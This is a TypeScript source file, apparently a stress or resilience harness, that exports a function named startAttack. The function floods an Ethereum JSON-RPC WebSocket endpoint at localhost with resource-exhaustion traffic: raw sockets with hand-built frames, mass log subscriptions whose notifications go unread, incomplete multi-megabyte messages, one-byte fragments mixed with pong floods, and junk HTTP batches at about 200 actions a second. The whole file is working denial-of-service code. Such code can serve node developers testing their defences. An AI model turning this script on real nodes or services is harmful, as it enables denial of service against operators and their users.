import { connect } from 'node:net'
import type { Socket } from 'node:net'
import { hot, toWord } from './chain.ts'

/** A WebSocket of which the attacker decides every byte. */
const openRawSocket = (url: string): Socket => {
  const { port, pathname } = new URL(url)
  const socket = connect({ port: Number(port), host: '127.0.0.1' })
  socket.on('error', () => {})
  socket.write(
    `GET ${pathname} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${'a'.repeat(22)}==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
  )
  return socket
}

/** A frame with a mask of zeros. */
const toFrame = (opcode: number, payload: Buffer, isFinal = true): Buffer => {
  const { length } = payload
  const code = length < 126 ? length : length < 65_536 ? 126 : 127
  const extended = Buffer.alloc(code < 126 ? 0 : code === 126 ? 2 : 8)
  if (code === 126) extended.writeUInt16BE(length)
  if (code === 127) extended.writeBigUInt64BE(BigInt(length))
  return Buffer.concat([Buffer.from([(isFinal ? 0x80 : 0) | opcode, 0x80 | code]), extended, Buffer.alloc(4), payload])
}
const text = (body: string): Buffer => toFrame(1, Buffer.from(body))

let last = 10_000
const take = (count: number): readonly string[] => Array.from({ length: count }, () => toWord((last += 1)))
const toAddress = (word: string): string => `0x${word.slice(26)}`
const toCall = (method: string, params: unknown, id = 1): string =>
  JSON.stringify({ jsonrpc: '2.0', id, method, params })
const subscribe = (...params: unknown[]): string => toCall('eth_subscribe', params)

/** Connections that are opened once and used in turn, and opened again when they have closed. */
const createConnections = (url: string, count: number): (() => Socket) => {
  const sockets: Socket[] = []
  let next = 0
  return () => {
    next = (next + 1) % count
    const known = sockets[next]
    if (known !== undefined && !known.destroyed) return known
    const opened = openRawSocket(url)
    opened.resume()
    sockets[next] = opened
    return opened
  }
}

/** Starts everything that one key can try, 200 times a second in total. @returns A function that ends it. */
export const startAttack = (url: string): (() => void) => {
  const wide = createConnections(url, 12)
  const matching = createConnections(url, 5)
  const others = new Set<Socket>()
  const openOther = (lifeMs: number, reads = true): Socket => {
    const socket = openRawSocket(url)
    if (reads) socket.resume()
    others.add(socket)
    socket.on('close', () => others.delete(socket))
    setTimeout(() => socket.destroy(), lifeMs).unref()
    return socket
  }
  const pongs = Buffer.concat(Array.from({ length: 400 }, () => toFrame(10, Buffer.alloc(125))))

  const actions: readonly (() => void)[] = [
    // Filters with many values.
    () =>
      wide().write(
        text(
          subscribe('logs', {
            address: take(8).map(toAddress),
            topics: [take(8), take(4), take(4), take(2)],
          }),
        ),
      ),
    // Filters that match all logs.
    () => matching().write(text(subscribe('logs', { address: [hot, ...take(1).map(toAddress)] }))),
    // A batch of subscriptions and a call of 25 seconds, whose notifications nobody reads.
    () => {
      if (others.size > 150) return
      const calls = [
        ...Array<string>(50).fill(subscribe('logs', { address: hot })),
        toCall('eth_createAccessList', [{}]),
      ]
      openOther(30_000, false).write(text(`[${calls.join()}]`))
    },
    // Messages that do not arrive completely.
    () => {
      if (others.size > 150) return
      openOther(90_000).write(toFrame(1, Buffer.alloc(2_000_000, ' ')).subarray(0, 1_900_000))
    },
    // Fragments of one byte between pongs.
    () => {
      if (others.size > 150) return
      const socket = openOther(60_000)
      socket.write(toFrame(1, Buffer.from('['), false))
      for (let count = 0; count < 20; count += 1)
        socket.write(Buffer.concat([toFrame(0, Buffer.from(' '), false), pongs]))
    },
    // Batches of nothing.
    () => {
      const body = `[${Array<number>(1_000).fill(1).join()}]`
      fetch(url, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body })
        .then(
          (response) => response.arrayBuffer(),
          () => {},
        )
        .catch(() => {})
    },
    // Whole pending transactions.
    () => matching().write(text(subscribe('newPendingTransactions', true))),
  ]
  /** Most are subscriptions, because the others need few requests. */
  const order = [0, 0, 0, 0, 1, 1, 2, 3, 4, 5]
  let at = 0
  const timer = setInterval(() => {
    for (let count = 0; count < 2; count += 1) {
      const action = at % 200 === 199 ? 6 : (order[at % order.length] ?? 0)
      at += 1
      actions[action]?.()
    }
    // Four connections with all their subscriptions close together.
    if (at % 6_000 === 0) for (let count = 0; count < 4; count += 1) wide().destroy()
  }, 10)
  return () => {
    clearInterval(timer)
    for (const socket of others) socket.destroy()
  }
}
